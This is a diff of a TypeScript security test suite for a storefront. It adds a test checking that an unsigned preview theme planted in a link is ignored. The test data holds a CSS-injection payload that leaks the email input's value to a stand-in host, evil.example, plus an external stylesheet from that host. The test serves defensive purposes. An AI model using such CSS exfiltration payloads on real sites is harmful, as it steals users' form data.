@@ -1,7 +1,15 @@
 // What an attacker tries against the storefront from outside: redirects to another site, and
 // (below) the headers every answer carries.
-import { describe, expect, it } from "vitest";
-import { at, getWithHost } from "./browser";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { Browser } from "playwright-core";
+import { encodePreviewTheme } from "../domain/preview-theme";
+import { at, getWithHost, launch, newPage, PHONE } from "./browser";
+
+let browser: Browser;
+beforeAll(async () => {
+  browser = await launch();
+});
+afterAll(() => browser?.close());
 
 const post = (path: string, form: Record<string, string>) =>
   fetch(at(path), { method: "POST", redirect: "manual", body: new URLSearchParams(form), headers: { origin: new URL(at("/")).origin } });
@@ -50,5 +58,23 @@ describe("proxy headers without TRUST_PROXY", () => {
     const response = await fetch(at("/"), { redirect: "manual", headers: { cookie: `auth=${"x".repeat(43)}` } });
     const cleared = response.headers.getSetCookie().find((c) => c.startsWith("auth="));
     expect(cleared).toMatch(/; Secure$/);
+  });
+});
+
+describe("a preview theme nobody else can plant", () => {
+  it("an unsigned theme in a link renders the saved theme, loads no outside stylesheet and sets no cookie", async () => {
+    const planted = encodePreviewTheme({ colors: { primary: "#aa0000" }, customCss: "input[name=email][value^=a]{background:url(https://evil.example/leak?e=a)}", fonts: { title: { name: "Evil", url: "https://evil.example/evil.css" } } });
+    const response = await fetch(at(`/-ps--${planted}--pe-/legal`));
+    expect(response.status).toBe(200);
+    expect(response.headers.getSetCookie().some((c) => c.startsWith("previewtheme="))).toBe(false);
+    const html = await response.text();
+    expect(html).not.toContain("evil.example");
+
+    const { context, page } = await newPage(browser, PHONE);
+    await page.goto(at(`/-ps--${planted}--pe-/legal`));
+    expect(new URL(page.url()).pathname).toBe("/legal");
+    expect(await page.locator("h1").evaluate((el) => getComputedStyle(el).color)).toBe("rgb(26, 27, 27)");
+    expect((await context.cookies()).find((c) => c.name === "previewtheme")).toBeUndefined();
+    await context.close();
   });
 });
